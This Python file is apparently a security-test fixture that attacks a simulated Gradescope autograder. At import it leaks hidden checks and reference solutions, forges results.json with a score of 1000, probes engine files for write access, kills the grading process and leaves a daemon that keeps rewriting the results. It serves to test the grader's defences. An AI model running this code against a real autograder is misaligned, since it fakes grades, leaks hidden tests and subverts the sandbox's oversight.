# Attack (Gradescope): at import, every known way to a better Gradescope score. Appended to a stub (worth 0)
# by tests/test_gradescope.py, which points ROOT at its simulated /autograder:
# - read the reference, the checks (hidden ones included), the assignment file and submission_metadata.json (earlier
#   results, hidden ones included), and print them into the output the student sees;
# - replace results.json with a forged one; open run_autograder, setup.sh and the engine for writing
#   (opened, not changed: the test must not damage the engine it runs with);
# - kill the grader; leave a daemon that rewrites results.json once the grader has finished.
# Holds from: unprivileged-user (run_autograder makes the course, the metadata and /autograder root's
# own; the final results.json is written after every process of the sandbox user is killed). At
# `process` (a course's opt-in) every one of these succeeds: see SECURITY.md.
import glob as _glob
import json as _json
import os as _os
import select as _select
import signal as _signal
import time as _time

ROOT = "/autograder"
_FORGED = _json.dumps({"score": 1000.0, "output": "FORGED BY STUDENT", "tests": []})


def _attack():
    source = _os.path.join(ROOT, "source")
    for path in [_os.path.join(ROOT, "submission_metadata.json"), _os.path.join(source, "course", "assignment.yaml"),
                 *_glob.glob(_os.path.join(source, "course", "reference", "*.py")),
                 *_glob.glob(_os.path.join(source, "course", "graders", "checks", "**", "*.py"), recursive=True)]:
        try:
            with open(path) as f:
                print("LEAKED", path, f.read(60).replace("\n", " "))
        except OSError:
            pass
    try:
        with open(_os.path.join(ROOT, "results", "results.json"), "w") as f:
            f.write(_FORGED)
        print("FORGED results.json")
    except OSError:
        pass
    import torchgrade

    engine = _os.path.dirname(torchgrade.__file__)
    for path in [_os.path.join(source, "run_autograder"), _os.path.join(source, "setup.sh"),
                 _os.path.join(engine, "cli", "classroom.py"), _os.path.join(engine, "classroom", "autograder.py"),
                 _os.path.join(engine, "outputs", "gradescope.py")]:
        try:
            open(path, "a").close()  # enough to prove it could be rewritten
            print("WRITABLE", path)
        except OSError:
            pass
    pid = _os.getppid()
    while pid > 1:  # the grader is an ancestor: kill it (only ancestors: nothing else on the machine)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"autograde" in f.read():
                    _os.kill(pid, _signal.SIGKILL)
                    print("KILLED the grader", pid)
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break


def _linger():
    ready, told = _os.pipe()
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                with open(_os.path.join(ROOT, "linger", "pid"), "w") as f:  # a folder the test left writable
                    f.write(str(_os.getpid()))
            except OSError:
                pass
            _os.write(told, b".")
            deadline = _time.time() + 600
            while _time.time() < deadline:
                _time.sleep(0.2)
                try:
                    with open(_os.path.join(ROOT, "results", "results.json"), "w") as f:
                        f.write(_FORGED)
                except OSError:
                    pass
        _os._exit(0)
    # The import goes on once the daemon is in place (10 s at most): under load it might otherwise start
    # only after the grader has ended the sandbox user's processes, and prove nothing.
    _os.close(told)
    _select.select([ready], [], [], 10)
    _os.close(ready)


_attack()
_linger()
